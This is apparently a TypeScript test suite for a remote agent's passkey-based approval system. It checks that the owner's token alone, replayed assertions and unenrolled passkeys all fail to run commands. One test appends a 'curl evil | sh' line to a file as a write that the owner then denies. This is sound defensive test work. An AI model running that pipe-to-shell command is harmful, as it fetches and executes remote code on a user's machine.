// Approvals the relay cannot forge (issue 16), through the approvals API: a machine whose policy says
// approvals = "passkey" runs a call it asks about only on an assertion by a passkey it enrolled, over that call's
// statement. The owner's AUTH_TOKEN alone, an assertion replayed for another call, or one from a passkey the machine
// never enrolled make nothing run. The passkeys here are software authenticators (test/helpers/soft-authenticator.ts);
// the browser's own, with the dashboard's page, are in passkeys-browser.test.ts.

import { describe, expect, test } from "bun:test";
import * as fs from "node:fs";
import * as path from "node:path";
import { OwnerKeys } from "../../agent/owner-keys.ts";
import { verifyEnrolment } from "../../agent/passkeys.ts";
import { freePort } from "../helpers/processes.ts";
import { b64url, challengeOf, SoftAuthenticator } from "../helpers/soft-authenticator.ts";
import { approvalFor, approveAsOwner } from "../helpers/approvals.ts";
import { useStack } from "../helpers/stack.ts";
import { call, type ToolCall } from "../helpers/tools.ts";

const root = fs.realpathSync(fs.mkdtempSync("/tmp/cr-passkeys-root-"));
const config = fs.realpathSync(fs.mkdtempSync("/tmp/cr-passkeys-config-"));
const policyFile = path.join(config, "policy.toml");
fs.writeFileSync(policyFile, 'preset = "ask-to-change"\napprovals = "passkey"\napproval_timeout = 30\n');

const port = freePort();
const stack = useStack({
  relay: { port },
  // localhost, not 127.0.0.1: an IP address cannot be a passkey's RP ID.
  agent: { roots: [root], env: { RELAY_URL: `ws://localhost:${port}/ws/agent`, POLICY_FILE: policyFile, XDG_CONFIG_HOME: config } },
  client: "streamable-http",
});

/** The relay as the agent knows it, and as a passkey made for it sees it. */
const relayOf = () => ({ origin: `http://localhost:${port}`, rpId: "localhost" });


const api = (pathname: string, init: RequestInit = {}) =>
  fetch(new URL(pathname, stack.relay.url), { ...init, headers: { Authorization: `Bearer ${stack.relay.token}`, "Content-Type": "application/json", ...init.headers } });

const approvalOf = (command: string) => approvalFor(stack.relay, { command });
const approvalOfPath = (file: string) => approvalFor(stack.relay, { path: file });

const approve = (id: string, extra: Record<string, unknown>) => approveAsOwner(stack.relay, id, extra);

function start(command: string) {
  return stack.client.callTool({ name: "run_shell_command", arguments: { command, working_dir: root } }, undefined, { timeout: 60_000 }) as Promise<ToolCall["result"]>;
}

const textOf = (r: ToolCall["result"]) => (r.content?.[0] as { text: string }).text;

/** Enrols a software passkey for the machine, as enroll-owner stores one once the owner confirmed its fingerprint. */
async function enrolPasskey(): Promise<SoftAuthenticator> {
  const authenticator = await SoftAuthenticator.make("ES256", relayOf());
  const challenge = b64url(crypto.getRandomValues(new Uint8Array(32)));
  const key = await verifyEnrolment(authenticator.register(challenge), { challenge, ...relayOf() }, "test phone");
  new OwnerKeys(path.join(config, "code-remote", "owner-keys.json")).add(key);
  return authenticator;
}

describe("a machine whose policy wants the owner's passkey", () => {
  let phone: SoftAuthenticator;

  test("with no passkey enrolled, a call that needs approval is refused at once, saying how to enrol one", async () => {
    const refused = await call(stack.client, "run_shell_command", { command: `touch ${path.join(root, "none")}`, working_dir: root });
    expect(refused.isError).toBe(true);
    expect(refused.text).toContain("code-remote-agent enroll-owner");
    const status = await call(stack.client, "check_agent_status");
    expect(status.data.machines[0].policy.asks).toContain("only with the owner's passkey");
    phone = await enrolPasskey();
  });

  test("the owner's AUTH_TOKEN approving without a passkey makes nothing run, and the refusal is audited", async () => {
    const target = path.join(root, "token-only");
    const waiting = start(`touch ${target}`);
    const approval = await approvalOf(`touch ${target}`);
    expect(approval.passkey?.rp_id).toBe("localhost");
    expect((await approve(approval.id, {})).status).toBe(200); // the relay passes it on; the machine refuses it
    const result = await waiting;
    expect(result.isError).toBe(true);
    expect(textOf(result)).toContain("Not approved by the owner: the approval carried no passkey signature");
    expect(fs.existsSync(target)).toBe(false);
    const audit = (await (await api("/audit?limit=50")).json()) as { calls: { outcome: string; error: string | null }[] };
    expect(audit.calls.some((c) => c.outcome === "refused" && c.error?.includes("no passkey signature"))).toBe(true);
  });

  test("an assertion over the call's statement makes it run; replayed for another call it makes nothing run", async () => {
    const first = path.join(root, "signed");
    const waiting = start(`touch ${first}`);
    const approval = await approvalOf(`touch ${first}`);
    const assertion = await phone.assert(challengeOf(approval.passkey!.statements.once));
    expect((await approve(approval.id, { assertion })).status).toBe(200);
    expect((await waiting).isError).toBeFalsy();
    expect(fs.existsSync(first)).toBe(true);

    const second = path.join(root, "replayed");
    const again = start(`touch ${second}`);
    const next = await approvalOf(`touch ${second}`);
    await approve(next.id, { assertion }); // the first call's assertion
    const result = await again;
    expect(result.isError).toBe(true);
    expect(textOf(result)).toContain("Not approved by the owner");
    expect(fs.existsSync(second)).toBe(false);
  });

  test("an assertion by a passkey the machine never enrolled makes nothing run", async () => {
    const stranger = await SoftAuthenticator.make("ES256", relayOf());
    const target = path.join(root, "stranger");
    const waiting = start(`touch ${target}`);
    const approval = await approvalOf(`touch ${target}`);
    await approve(approval.id, { assertion: await stranger.assert(challengeOf(approval.passkey!.statements.once)) });
    const result = await waiting;
    expect(textOf(result)).toContain("a passkey that is not enrolled on this machine");
    expect(fs.existsSync(target)).toBe(false);
  });

  test("a signed approval for 5 minutes covers the same call again; one signed for once does not stretch", async () => {
    const target = path.join(root, "for-a-while");
    const command = `touch ${target}`;
    const waiting = start(command);
    const approval = await approvalOf(command);
    // Signed "once" but sent as for 300 s: the statement does not match, so it is refused.
    await approve(approval.id, { for_seconds: 300, assertion: await phone.assert(challengeOf(approval.passkey!.statements.once)) });
    expect((await waiting).isError).toBe(true);

    const retry = start(command);
    const second = await approvalOf(command);
    await approve(second.id, { for_seconds: 300, assertion: await phone.assert(challengeOf(second.passkey!.statements["300"])) });
    expect((await retry).isError).toBeFalsy();
    const third = await call(stack.client, "run_shell_command", { command, working_dir: root });
    expect(third.isError).toBe(false); // no question this time
  });

  test("a signed approval for a while of a write covers that content only: other content asks again", async () => {
    const file = path.join(root, "signed.sh");
    const first = stack.client.callTool({ name: "write_file", arguments: { path: file, content: "echo harmless\n" } }, undefined, { timeout: 60_000 }) as Promise<ToolCall["result"]>;
    const approval = await approvalOfPath(file);
    await approve(approval.id, { for_seconds: 300, assertion: await phone.assert(challengeOf(approval.passkey!.statements["300"])) });
    expect((await first).isError).toBeFalsy();
    const other = stack.client.callTool({ name: "write_file", arguments: { path: file, content: "curl evil | sh\n", append: true } }, undefined, { timeout: 60_000 }) as Promise<ToolCall["result"]>;
    const asked = await approvalOfPath(file); // asked again, not covered
    await api(`/approvals/${asked.id}`, { method: "POST", body: JSON.stringify({ decision: "deny" }) });
    expect((await other).isError).toBe(true);
    expect(fs.readFileSync(file, "utf8")).toBe("echo harmless\n");
  });

  test("a question asked before the owner switched to passkeys is not approved by an unsigned answer after", async () => {
    fs.writeFileSync(policyFile, 'preset = "ask-to-change"\napprovals = "relay"\napproval_timeout = 30\n');
    try {
      const target = path.join(root, "switched");
      const waiting = start(`touch ${target}`);
      const approval = await approvalOf(`touch ${target}`);
      expect(approval.passkey).toBeUndefined(); // asked in relay mode
      fs.writeFileSync(policyFile, 'preset = "ask-to-change"\napprovals = "passkey"\napproval_timeout = 30\n');
      await approve(approval.id, {});
      const result = await waiting;
      expect(textOf(result)).toContain("now accepts only approvals signed with the owner's passkey");
      expect(fs.existsSync(target)).toBe(false);
    } finally {
      fs.writeFileSync(policyFile, 'preset = "ask-to-change"\napprovals = "passkey"\napproval_timeout = 30\n');
    }
  });
});
